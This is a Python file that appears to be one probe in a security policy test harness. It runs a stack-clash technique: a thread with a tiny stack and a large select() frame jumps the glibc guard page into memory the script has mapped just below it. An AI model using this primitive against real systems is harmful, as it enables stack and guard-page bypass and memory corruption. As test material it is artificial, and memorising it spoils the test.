# class: machine_code
# rule: native_code
# needs: python<3.14, unprobed
# success: a function's frame lies in memory that the program mapped below a small thread's stack
# proof: word
# quiet: nothing is refused, the thread gets a larger guard
# unreported: a policy that only reports changes no thread
import _thread
import mmap
import os
import select
import time

from attack import attempt

# select.select has a frame of 50 KB, and glibc guards one page.
STACK = 32768


def maps():
    for line in open("/proc/self/maps"):
        first, last = (int(part, 16) for part in line.split()[0].split("-"))
        yield first, last, line.split()[1]


def ends_at(place):
    return any(last == place and rights.startswith("rw") for _, last, rights in maps())


kept = []  # fills the holes, so that what is mapped next lies below all else


def fresh(size=1 << 18):
    kept.append(mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
    return kept[-1]


def below(guard):
    """Memory of this program's that ends where the guard begins, for certain."""
    for _ in range(8):
        page = fresh()
        if ends_at(guard):
            page.close()
            if ends_at(guard):
                return None
            page = fresh()
            return page if ends_at(guard) else None
    return None


def start(steps):
    """A thread that waits, and the guard of its stack."""
    known, waits, go = set(maps()), _thread.allocate_lock(), _thread.allocate_lock()
    waits.acquire()
    go.acquire()

    def run():
        bytearray(100_000)
        waits.release()
        go.acquire()
        if steps:
            select.select([reading], [], [], 20)
            steps.clear()

    _thread.start_new_thread(run, ())
    waits.acquire(timeout=20)
    new = [(first, last) for first, last, rights in set(maps()) - known if rights == "---p"]
    guards = [first for first, last in new if last - first < STACK]
    return go, guards[0] if len(guards) == 1 else 0


reading, writing = os.pipe()


@attempt
def overlap():
    _thread.stack_size(STACK)
    # Holes for the interpreter's own 16 KB of each thread, so that these lie elsewhere.
    for hole in [fresh(16384) for _ in range(64)][::2]:
        hole.close()
    waiting = []
    for _ in range(60):
        # The others stay, so that each has another place.
        steps = []
        go, guard = start(steps)
        waiting.append(go)
        page = None if not guard or ends_at(guard) else below(guard)
        if not page:
            continue
        steps.append(True)
        go.release()
        for _ in range(500):
            if page[:].strip(b"\0"):
                os.write(writing, b"x")
                while steps:
                    time.sleep(0.01)
                return True
            time.sleep(0.01)
    return False
